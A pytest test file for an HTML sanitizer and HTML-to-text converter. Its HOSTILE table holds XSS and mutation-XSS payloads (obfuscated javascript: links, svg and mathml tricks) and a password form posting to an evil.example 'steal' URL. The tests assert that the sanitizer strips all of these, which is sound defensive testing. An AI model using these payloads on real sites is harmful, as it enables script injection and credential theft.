"""Untrusted HTML made safe (nh3, for real) and plain text drawn from it.

Hostile snippets are checked with an HTML parser walking tags and attributes
(``find_active_content`` in conftest.py), not with substring searches.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest

from briefings.sanitizing import html_to_text, looks_like_html, sanitize_html, text_to_html

BASE = "https://cert.example/advisories/2026/notice.html"

HOSTILE = {
    "script": '<p>Patch now<script>alert("x")</script></p>',
    "img-onerror": '<img src="x.png" onerror="alert(1)">Patch',
    "javascript-link": '<a href="javascript:alert(1)">Patch</a>',
    "javascript-link-tab-entity": '<a href="jav&#x09;ascript:alert(1)">Patch</a>',
    "javascript-link-newline-entity": '<a href="jav&#x0A;ascript:alert(1)">Patch</a>',
    "javascript-link-decimal-entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Patch</a>'
    ),
    "javascript-link-mixed-case-space": '<a href="  JaVaScRiPt:alert(1)">Patch</a>',
    "vbscript-link": '<a href="vbscript:msgbox(1)">Patch</a>',
    "style-url": '<p style="background:url(javascript:alert(1))">Patch</p>',
    "style-tracking-image": '<div style="background-image:url(https://t.example/p.gif)">Patch</div>',
    "style-element": "<style>body{background:url(javascript:alert(1))}</style>Patch",
    "svg-onload": '<svg onload="alert(1)"><circle r="1"/></svg>Patch',
    "svg-script": "<svg><script>alert(1)</script></svg>Patch",
    "iframe": '<iframe src="https://evil.example/"></iframe>Patch',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">Patch',
    "form-action": (
        '<form action="https://evil.example/steal"><input name="password">'
        '<button formaction="javascript:alert(1)">Patch</button></form>'
    ),
    "data-url-link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Patch</a>',
    "data-url-image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">Patch',
    "base-tag": '<base href="https://evil.example/"><a href="/login">Patch</a>',
    "object-embed": '<object data="x.swf"></object><embed src="x.swf">Patch',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">Patch',
    "onclick-on-safe-link": '<a href="https://ok.example/" onclick="alert(1)">Patch</a>',
    "details-ontoggle": "<details open ontoggle=alert(1)>Patch</details>",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->Patch",
    "mathml-mutation": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
        "</style></mglyph></table></mtext></math>Patch"
    ),
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">Patch',
}


@pytest.mark.parametrize("snippet", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("base", [BASE, None], ids=["with-base", "no-base"])
def test_hostile_snippet_loses_its_active_content(
    snippet: str, base: str | None, find_active_content: Callable[[str], list[str]]
) -> None:
    assert find_active_content(snippet), "the snippet itself must be hostile"
    safe = sanitize_html(snippet, base)
    assert find_active_content(safe) == [], safe
    # Sanitizing is stable: cleaning the output again changes nothing.
    assert sanitize_html(safe, base) == safe


@pytest.mark.parametrize("snippet", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_snippet_keeps_its_text_but_not_its_code(snippet: str) -> None:
    text = html_to_text(sanitize_html(snippet, BASE))
    assert "alert" not in text and "msgbox" not in text
    assert "Patch" in text or snippet.startswith(("<math", "<noscript"))


def test_script_and_style_content_is_dropped_not_shown() -> None:
    assert sanitize_html("<p>a<script>var x = 1;</script>b</p>") == "<p>ab</p>"
    assert html_to_text("<style>p { color: red }</style><p>text</p>") == "text"


def test_safe_markup_is_kept() -> None:
    html = (
        "<h2>Summary</h2><p>Patch <strong>now</strong>, <em>today</em>.</p>"
        "<ul><li>one</li></ul><pre><code>apt upgrade</code></pre>"
        '<table><tr><th scope="col">CVE</th></tr><tr><td>CVE-2024-1</td></tr></table>'
    )
    assert sanitize_html(html) == html.replace("<tr>", "<tbody><tr>", 1).replace(
        "</table>", "</tbody></table>"
    )


def test_relative_links_are_resolved_against_the_base() -> None:
    html = (
        '<a href="/advisories/1">root</a> <a href="2">sibling</a> <a href="#fix">fragment</a>'
        ' <a href="//cdn.example/x">scheme-relative</a> <a href="../index.html">up</a>'
    )
    hrefs = _hrefs(sanitize_html(html, BASE))
    assert hrefs == [
        "https://cert.example/advisories/1",
        "https://cert.example/advisories/2026/2",
        "https://cert.example/advisories/2026/notice.html#fix",
        "https://cdn.example/x",
        "https://cert.example/advisories/index.html",
    ]


def test_relative_links_without_a_base_are_dropped_and_absolute_ones_kept() -> None:
    html = '<a href="/x">relative</a> <a href="https://ok.example/a">abs</a> <a href="mailto:s@cert.example">m</a>'
    assert _hrefs(sanitize_html(html)) == ["https://ok.example/a", "mailto:s@cert.example"]


def test_links_are_marked_nofollow_and_other_schemes_dropped() -> None:
    safe = sanitize_html(
        '<a href="ftp://files.example/x">ftp</a> <a href="https://a.example/">a</a>'
    )
    assert _hrefs(safe) == ["https://a.example/"]
    assert 'rel="noopener noreferrer nofollow"' in safe


def test_empty_input() -> None:
    assert sanitize_html("") == ""
    assert html_to_text("") == ""


# -- text -----------------------------------------------------------------------------


def test_text_of_lists_puts_each_item_on_its_own_line() -> None:
    html = "<p>Affected:</p><ul><li>Router A</li><li>Router B</li></ul><ol><li>Update</li><li>Reboot</li></ol>"
    assert html_to_text(html) == "Affected:\nRouter A\nRouter B\n\nUpdate\nReboot"


def test_text_decodes_entities_once() -> None:
    html = "<p>AT&amp;T &lt;b&gt; &eacute;t&eacute;&nbsp;2024 &#8212; &#x2014; &amp;amp;</p>"
    assert html_to_text(html) == "AT&T <b> été 2024 — — &amp;"


def test_text_of_plain_text_is_normalized_not_decoded_twice() -> None:
    assert html_to_text("  no   markup\there ") == "no markup here"
    assert html_to_text("Tom &amp; Jerry") == "Tom & Jerry"


def test_text_of_paragraphs_and_breaks() -> None:
    assert html_to_text("<p>one</p><p>two<br>three</p><h2>Head</h2>") == "one\ntwo\nthree\nHead"
    assert html_to_text("<p>x</p>\n\n\n\n<p>y</p>") == "x\n\ny"


def test_text_of_a_table_keeps_cells_apart() -> None:
    html = "<table><tr><td>CVE-2024-1</td><td>9.8</td></tr></table>"
    assert html_to_text(html).split() == ["CVE-2024-1", "9.8"]


def test_text_of_divs_keeps_blocks_apart() -> None:
    assert html_to_text("<div>Affected: Router</div><div>Fixed: 2.1</div>").splitlines() == [
        "Affected: Router",
        "Fixed: 2.1",
    ]


def test_text_to_html_escapes_and_makes_paragraphs() -> None:
    assert text_to_html("a <b> & c\n\nsecond") == "<p>a &lt;b&gt; &amp; c</p>\n<p>second</p>"
    assert html_to_text(text_to_html("a <b> & c\n\nsecond")) == "a <b> & c\n\nsecond"


@pytest.mark.parametrize(
    ("text", "expected"),
    [("<p>x</p>", True), ("a &amp; b", True), ("</div>", True), ("a < b and c > d", False)],
)
def test_looks_like_html(text: str, expected: bool) -> None:
    assert looks_like_html(text) is expected


def _hrefs(html: str) -> list[str]:
    from html.parser import HTMLParser

    found: list[str] = []

    class Links(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.extend(value for name, value in attrs if name == "href" and value)

    Links().feed(html)
    return found
